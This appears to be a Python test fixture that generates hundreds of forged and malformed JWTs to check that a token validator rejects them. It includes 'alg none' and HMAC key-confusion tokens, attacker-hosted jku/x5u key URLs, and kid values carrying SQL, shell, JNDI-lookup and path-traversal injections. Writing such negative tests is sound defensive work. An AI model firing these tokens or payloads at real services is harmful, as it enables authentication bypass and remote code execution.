"""Five hundred tokens that must not let anybody in: each good but for one thing, which it is named.

The keys of the issuer are `rsa("one")`, `rsa("two")`, curves of three sizes, one of Edwards, and in
the set beside them such as no token may use. The attacker has keys of his own and every public one.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from typing import Any

from tests.tokens.minting import (
    AUDIENCE,
    ISSUER,
    NOW,
    claims,
    decoded,
    ec,
    ed,
    encoded,
    jwk,
    jwks,
    rsa,
    signed,
    token,
)

Case = tuple[str, str]

#: Keys of the issuer, and such as stand beside them and are not to be used.
KEY_SET = jwks(
    jwk(rsa("one"), use="sig"),
    jwk(rsa("two"), alg="RS256"),
    jwk(ec("curve")),
    jwk(ec("wide", "P-384")),
    jwk(ec("widest", "P-521")),
    jwk(ed()),
    jwk(rsa("weak", 1024)),
    jwk(rsa("sealing"), use="enc"),
    jwk(rsa("signing-only"), key_ops=["sign"]),
    jwk(ec("bitcoin", "secp256k1")),
    rsa("leaked").as_dict(private=True),
    {"kty": "oct", "kid": "shared", "k": encoded(b"s" * 32)},
    {"kty": "RSA", "kid": "even", "n": encoded(b"\xff" * 255 + b"\xfe"), "e": "AQAB"},
    {"kty": "RSA", "kid": "one-exponent", "n": jwk(rsa("one"))["n"], "e": "AQ"},
    {"kty": "EC", "kid": "off", "crv": "P-256", "x": encoded(b"\1" * 32), "y": encoded(b"\1" * 32)},
    {"kty": "AKP", "kid": "new", "alg": "ML-DSA-44", "pub": encoded(b"p" * 32)},
)


def _parts(text: str) -> list[str]:
    return text.split(".")


def unsigned() -> Iterator[Case]:
    for alg in ("none", "None", "NONE", "nOnE", "", " none", "none ", "null"):
        for name, signature in (("nothing", ""), ("a-byte", "AA"), ("a-good-one", None)):
            said = encoded({"alg": alg, "typ": "JWT", "kid": "one"})
            last = _parts(token())[2] if signature is None else signature
            yield f"alg {alg!r} signed with {name}", f"{said}.{encoded(claims())}.{last}"
    for alg in (None, 0, 1, True, [], ["RS256"], {}, {"RS256": 1}):
        yield f"alg is {alg!r}", signed({"alg": alg, "kid": "one"}, claims(), rsa(), "RS256")
    yield "no alg", signed({"kid": "one", "typ": "JWT"}, claims(), rsa(), "RS256")


def confused() -> Iterator[Case]:
    """HMAC with what everybody knows: the public key in each of its forms."""
    for key in (rsa("one"), ec("curve"), ed()):
        forms = {
            "pem": key.as_pem(private=False),
            "pem-stripped": key.as_pem(private=False).strip(),
            "der": key.as_der(private=False),
            "jwk": json.dumps(jwk(key)).encode(),
            "jwk-sorted": json.dumps(jwk(key), sort_keys=True).encode(),
            "kid": str(key.kid).encode() * 12,
            "set": KEY_SET,
        }
        for name, value in forms.items():
            for alg in ("HS256", "HS384", "HS512"):
                header = {"alg": alg, "typ": "JWT", "kid": key.kid}
                made = signed(header, claims(), value, alg)
                yield f"{alg} with the public key {key.kid} as {name}", made
    for alg in ("HS256", "HS384", "HS512"):
        header = {"alg": alg, "kid": "shared"}
        yield f"{alg} with a secret of the set", signed(header, claims(), b"s" * 32, alg)


def other_algorithms() -> Iterator[Case]:
    """A good signature, made in another way than the header or the key says."""
    ways = ("RS256", "RS384", "RS512", "PS256", "PS384", "PS512")
    for said in ways:
        for made in ways:
            if said != made:
                header = {"alg": said, "kid": "one"}
                yield f"{said} that is {made}", signed(header, claims(), rsa("one"), made)
    for alg in ways[1:]:
        yield f"{alg} by a key for RS256", token(rsa("two"), alg)
    for key in (ec("curve"), ec("wide", "P-384"), ec("widest", "P-521")):
        right = {"P-256": "ES256", "P-384": "ES384", "P-521": "ES512"}[str(key.curve_name)]
        for said in ("ES256", "ES384", "ES512", "ES256K", "EdDSA", "RS256", "Ed25519"):
            if said != right:
                header = {"alg": said, "kid": key.kid}
                yield f"{said} by a key of {key.curve_name}", signed(header, claims(), key, right)
    for said in ("ES256", "RS256", "HS256", "Ed448"):
        yield (
            f"{said} that is EdDSA",
            signed({"alg": said, "kid": "edwards"}, claims(), ed(), "EdDSA"),
        )
    for said in ("rs256", "RS 256", "RS256\0", "RSA1_5", "A128KW", "dir", "RSA-OAEP", "RS1", "HS1"):
        yield f"alg {said!r}", signed({"alg": said, "kid": "one"}, claims(), rsa(), "RS256")


def wrong_keys() -> Iterator[Case]:
    thief = rsa("thief")
    for kid in ("one", "two", "curve", "thief", None):
        header = {"alg": "RS256", "kid": kid} if kid else {"alg": "RS256"}
        yield f"another's key as {kid}", signed(header, claims(), thief, "RS256")
    for name in ("weak", "sealing", "signing-only", "leaked"):
        key = rsa(name, 1024) if name == "weak" else rsa(name)
        yield f"a key of the set that is {name}", token(key)
    yield "a curve that is not taken", token(ec("bitcoin", "secp256k1"), "ES256K")
    for kid in ("even", "one-exponent", "off", "new", "shared"):
        for alg in ("RS256", "ES256", "EdDSA"):
            key = {"RS256": thief, "ES256": ec("thief"), "EdDSA": ed("thief")}[alg]
            header = {"alg": alg, "kid": kid}
            yield f"{alg} by the broken key {kid}", signed(header, claims(), key, alg)
    yield "no kid where two keys fit", signed({"alg": "RS256"}, claims(), rsa("one"), "RS256")


def followed() -> Iterator[Case]:
    """The token brings its key, or says where it lies."""
    for key, alg in ((rsa("thief"), "RS256"), (ec("thief"), "ES256"), (ed("thief"), "EdDSA")):
        own = jwk(key)
        hints: dict[str, object] = {
            "jwk": own,
            "jku": "https://thief.example/keys",
            "x5u": "https://thief.example/chain.pem",
            "x5c": [base64.b64encode(key.as_der(private=False)).decode()],
            "x5t": encoded(b"t" * 20),
            "x5t#S256": encoded(b"t" * 32),
        }
        for name, hint in hints.items():
            for kid in ("thief", "one", None):
                header = {"alg": alg, "kid": kid, name: hint}
                header = {k: v for k, v in header.items() if v is not None}
                yield f"{name} of a thief, {alg}, kid {kid}", signed(header, claims(), key, alg)
    for place in ("file:///dev/null", "http://127.0.0.1:1/keys", f"{ISSUER}@thief.example/keys"):
        header = {"alg": "RS256", "kid": "thief", "jku": place}
        yield f"jku {place}", signed(header, claims(), rsa("thief"), "RS256")


def kids() -> Iterator[Case]:
    tricks: list[object] = [
        "", " ", "one ", " one", "ONE", "one\0", "one\n", "\0", "..", ".", "../../dev/null",
        "/dev/null", "..\\..\\nul", "file:///dev/null", "https://thief.example/keys", "keys/one",
        "one' OR '1'='1", "x' UNION SELECT 'secret' --", '"; DROP TABLE keys; --', "$(id)", "`id`",
        "|id", "${jndi:ldap://thief.example/a}", "{{7*7}}", "%00", "%2e%2e%2f", "\u202eeno",
        "\u043ene",
        "one,two", "*", "?", "[a-z]*", "None", "null", "0", "k" * 256, "k" * 4000,
        None, 0, 1, True, False, 1.5, [], ["one"], {}, {"kid": "one"},
    ]  # fmt: skip
    for kid in tricks:
        header = {"alg": "RS256", "typ": "JWT", "kid": kid}
        # Signed by the thief, where the name might lead to his key; a bad form by the right one.
        key = rsa("thief") if isinstance(kid, str) else rsa("one")
        yield f"kid {kid!r:.60} of {len(repr(kid))}", signed(header, claims(), key, "RS256")


def headers() -> Iterator[Case]:
    for crit in (["exp"], ["b64"], ["alg"], [], [""], "exp", None, 1, ["unheard-of"], ["crit"]):
        header = {"alg": "RS256", "kid": "one", "crit": crit, "exp": NOW + 9, "unheard-of": 1}
        yield f"crit {crit!r}", signed(header, claims(), rsa(), "RS256")
    for b64 in (False, True, "false", None):
        header = {"alg": "RS256", "kid": "one", "b64": b64}
        yield f"b64 {b64!r}", signed(header, claims(), rsa(), "RS256")
    header = {"alg": "RS256", "kid": "one", "b64": False, "crit": ["b64"]}
    yield "b64 that is critical", signed(header, claims(), rsa(), "RS256")
    for name, value in (("enc", "A256GCM"), ("zip", "DEF"), ("cty", "JWT"), ("cty", "jose")):
        header = {"alg": "RS256", "kid": "one", name: value}
        yield f"{name} {value}", signed(header, claims(), rsa(), "RS256")
    for kind in ("JWE", "logout+jwt", "secevent+jwt", "dpop+jwt", "", "JOSE", "kb+jwt", "at+jwt;x",
                 None, 1, ["JWT"], {"JWT": 1}, True):  # fmt: skip
        header = {"alg": "RS256", "kid": "one", "typ": kind}
        yield f"typ {kind!r}", signed(header, claims(), rsa(), "RS256")
    good = _parts(token())
    for name, text in {
        "a list": b'["RS256"]', "a text": b'"RS256"', "a number": b"1", "nothing": b"",
        "alg twice": b'{"alg":"none","alg":"RS256","kid":"one"}',
        "alg twice, the other way": b'{"alg":"RS256","alg":"none","kid":"one"}',
        "kid twice": b'{"alg":"RS256","kid":"thief","kid":"one"}',
        "alg twice by an escape": b'{"alg":"RS256","\\u0061lg":"none","kid":"one"}',
        "a comma too many": b'{"alg":"RS256","kid":"one",}', "a comment": b'{/**/"alg":"RS256"}',
        "single quotes": b"{'alg':'RS256','kid':'one'}", "cut": b'{"alg":"RS256","kid":"one"',
        "two objects": b'{"alg":"RS256","kid":"one"}{}',
        "a mark of order": b'\xef\xbb\xbf{"alg":"RS256","kid":"one"}',
        "UTF-16": '{"alg":"RS256","kid":"one"}'.encode("utf-16"), "no UTF-8": b'{"alg":"\xff"}',
    }.items():  # fmt: skip
        yield f"a header that is {name}", signed(text, claims(), rsa(), "RS256")
    yield "no header", f".{good[1]}.{good[2]}"


def issuers() -> Iterator[Case]:
    for iss in (
        None, "", ISSUER + "/", ISSUER.upper(), "http" + ISSUER[5:], ISSUER + "2", ISSUER[:-1],
        " " + ISSUER, ISSUER + " ", ISSUER + "\0", ISSUER + "\n", ISSUER + "#", ISSUER + "?a",
        ISSUER.replace("id.", "id@"), ISSUER.replace("shop", "sh\u043ep"), "https://thief.example",
        "*", ".*", 0, 1, True, [ISSUER], {ISSUER: 1}, "https://id.example/realms/../realms/shop",
    ):  # fmt: skip
        yield f"iss {iss!r}", token(iss=iss)


def audiences() -> Iterator[Case]:
    many = [f"a{n}" for n in range(16)]
    for aud in (
        None, "", [], AUDIENCE.upper(), AUDIENCE + " ", " " + AUDIENCE, AUDIENCE + "\0", "sluice",
        "sluicegate2", "*", ".*", "other", ["other"], ["other", "sluicegate "], [[AUDIENCE]],
        {AUDIENCE: 1}, [AUDIENCE, 1], [AUDIENCE, None], [1], 1, True, [*many, AUDIENCE],
        f"other {AUDIENCE}", f"{AUDIENCE},other", "slu\u0456cegate", [""], [None],
    ):  # fmt: skip
        yield f"aud {aud!r:.70}", token(aud=aud)


def dates() -> Iterator[Case]:
    for exp in (NOW, NOW - 1, NOW - 0.001, NOW - 29, NOW - 31, NOW - 86400, 1, 0, 0.0):
        yield f"exp {exp!r}, now {NOW}", token(exp=exp)
    for value in (
        -1, -NOW, True, False, str(NOW + 300), "", [], [NOW + 300], {}, {"a": 1}, 1e300,
        float(1 << 60), 1 << 53, 10**30, "9" * 40,
    ):  # fmt: skip
        yield f"exp {value!r:.40}", token(exp=value)
        for name in ("nbf", "iat"):
            yield f"{name} {value!r:.40}", token(**{name: value})
    yield "no exp", token(exp=None)
    for ahead in (31, 60, 3600, 86400 * 365):
        yield f"nbf {ahead} s ahead", token(nbf=NOW + ahead, exp=NOW + ahead + 300)
        yield f"iat {ahead} s ahead", token(iat=NOW + ahead, exp=NOW + ahead + 300)
    for name in ("exp", "nbf", "iat"):
        for number in ("NaN", "Infinity", "-Infinity", "1e999", "9" * 5000, "0x7fffffff", "01"):
            body = json.dumps(claims(**{name: "@"})).replace('"@"', number).encode()
            header = {"alg": "RS256", "kid": "one"}
            yield f"{name} {number:.20}", signed(header, body, rsa(), "RS256")
        body = json.dumps(claims(**{name: "@"})).replace('"@"', "null").encode()
        yield f"{name} null", signed({"alg": "RS256", "kid": "one"}, body, rsa(), "RS256")


def users() -> Iterator[Case]:
    for sub in (
        None,
        "",
        " ",
        "\t",
        " ann",
        "ann ",
        "ann\0",
        "\0ann",
        "ann\n",
        "ann\r\nroles: admin",
        "a\x7f",
        "a\x1b[31m",
        "\u202enna",
        "a\u200eb",
        "a\u2028b",
        "a\ud800",
        "a\ufeff",
        "a" * 256,
        "\u00e4" * 128,
        0,
        1,
        True,
        1.5,
        [],
        ["ann"],
        {},
        {"sub": "ann"},
        "ann\u00a0",
        "\u3000ann",
        "a\u0085b",
        "a\u00adb",
    ):
        yield f"sub {sub!r:.60}", token(sub=sub)


def changed() -> Iterator[Case]:
    """A good signature over something else, or none over this."""
    head, body, signature = _parts(token())
    good = decoded(signature)
    for at in range(0, len(good), 8):
        bad = bytearray(good)
        bad[at] ^= 1
        yield f"byte {at} of the signature is another", f"{head}.{body}.{encoded(bytes(bad))}"
    for size in (1, 2, 127, 128, 255):
        yield f"{size} bytes of the signature", f"{head}.{body}.{encoded(good[:size])}"
    for name, made in {
        "doubled": good * 2,
        "with a byte more": good + b"\0",
        "behind a byte": b"\0" + good,
        "of zeros": bytes(256),
        "of ones": b"\xff" * 256,
        "backwards": good[::-1],
    }.items():
        yield f"a signature {name}", f"{head}.{body}.{encoded(made)}"
    for name, change in {
        "another user": {"sub": "admin"},
        "a later end": {"exp": NOW + 10**6},
        "a role": {"scope": "admin"},
        "a blank": {},
    }.items():
        said = json.dumps(claims(**change), separators=(", ", ":  ")).encode()
        yield f"{name} put in", f"{head}.{encoded(said)}.{signature}"
    other = _parts(token(sub="bob"))
    yield "another token's claims", f"{head}.{other[1]}.{signature}"
    yield "another token's signature", f"{head}.{body}.{other[2]}"
    curved = _parts(token(ec("curve"), "ES256"))
    made = decoded(curved[2])
    for name, pair in {
        "two zeros": bytes(64),
        "r is zero": bytes(32) + made[32:],
        "s is zero": made[:32] + bytes(32),
        "changed places": made[32:] + made[:32],
        "of ASN.1": _der(made),
        "short": made[:63],
        "long": made + b"\0",
        "for P-384": made[:32] + bytes(32) + made[32:],
        "ones": b"\xff" * 64,
        "half of it": made[:32],
        "r alone": made[:32] * 2,
    }.items():
        yield f"ES256, {name}", f"{curved[0]}.{curved[1]}.{encoded(pair)}"
    edwards = _parts(token(ed(), "EdDSA"))
    made = decoded(edwards[2])
    for name, pair in {
        "zeros": bytes(64),
        "cut": made[:63],
        "swapped": made[32:] + made[:32],
    }.items():
        yield f"EdDSA, {name}", f"{edwards[0]}.{edwards[1]}.{encoded(pair)}"


def _der(pair: bytes) -> bytes:
    """Return the signature of a curve as ASN.1 has it."""
    numbers = b"".join(
        b"\x02" + bytes([len(n)]) + n
        for half in (pair[:32], pair[32:])
        if (
            n := (b"\0" + half.lstrip(b"\0")) if half.lstrip(b"\0")[0] > 127 else half.lstrip(b"\0")
        )
    )
    return b"\x30" + bytes([len(numbers)]) + numbers


def forms() -> Iterator[Case]:
    good = token()
    head, body, signature = _parts(good)
    for name, text in {
        "padded": f"{head}=.{body}.{signature}",
        "padded at its end": good + "==",
        "with a blank": good + " ",
        "behind a blank": " " + good,
        "with a line end": good + "\n",
        "with a zero": good + "\0",
        "in two lines": f"{head}.{body}\n.{signature}",
        "of four parts": good + ".AA",
        "of two parts": f"{head}.{body}",
        "of five parts": f"{head}.{body}.{signature}.AA.AA",
        "of one part": head,
        "with a part that is empty": f"{head}..{signature}",
        "of dots": "eyJ..",
        "with commas": good.replace(".", ","),
        "with other dots": good.replace(".", "\uff0e"),
        "behind Bearer": "Bearer " + good,
        "in quotes": f'"{good}"',
        "of JSON": json.dumps({"payload": body, "signature": signature}),
        "in other letters": good.swapcase(),
        "in base64 itself": base64.b64encode(good.encode()).decode(),
        "in base64 with plus": good.replace("-", "+").replace("_", "/") + "+",
        "doubled": good * 2,
        "a token in a token": signed({"alg": "RS256", "kid": "one"}, good, rsa(), "RS256"),
        "with bits left over": _bits_left_over(good),
        "cut": good[:-40],
        "with %2e": good.replace(".", "%2e"),
    }.items():
        yield f"a token {name}", text
    for filler in (8192, 20_000, 100_000, 1_000_000):
        yield f"{filler} characters more", token(filler="f" * filler)
    for depth in (20, 1000, 2500):
        text = json.dumps(claims(deep="@")).replace('"@"', "[" * depth + "]" * depth).encode()
        yield f"nested {depth} deep", signed({"alg": "RS256", "kid": "one"}, text, rsa(), "RS256")
    header = {"alg": "RSA-OAEP", "enc": "A256GCM", "kid": "one"}
    yield "encrypted", ".".join([encoded(header), *(encoded(b"x" * n) for n in (256, 12, 64, 16))])
    yield "encrypted with a good claim", ".".join([encoded(header), "", "", body, signature])
    for name in ("iss", "aud", "sub", "exp", "nbf", "scope"):
        text = (
            json.dumps(claims(scope="a"))[:-1] + f', "{name}": {json.dumps(claims().get(name))}}}'
        )
        yield f"{name} twice", signed({"alg": "RS256", "kid": "one"}, text, rsa(), "RS256")
    for name, said in {
        "a list": [claims()],
        "a text": json.dumps(claims()),
        "nothing": b"",
        "null": b"null",
        "a number": b"1",
        "no UTF-8": b'{"iss":"\xff"}',
        "UTF-16": json.dumps(claims()).encode("utf-16"),
        "cut": json.dumps(claims())[:-1].encode(),
        "with a mark of order": b"\xef\xbb\xbf" + json.dumps(claims()).encode(),
    }.items():
        payload: Any = json.dumps(said) if name == "a text" else said
        yield (
            f"claims that are {name}",
            signed({"alg": "RS256", "kid": "one"}, payload, rsa(), "RS256"),
        )


def _bits_left_over(good: str) -> str:
    """Return the same bytes by another text: the last letter of RS256 carries two bits."""
    letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    return good[:-1] + letters[letters.index(good[-1]) | 1]


def cases() -> list[Case]:
    """Return all of them."""
    groups = (
        unsigned, confused, other_algorithms, wrong_keys, followed, kids, headers, issuers,
        audiences, dates, users, changed, forms,
    )  # fmt: skip
    return [case for group in groups for case in group()]
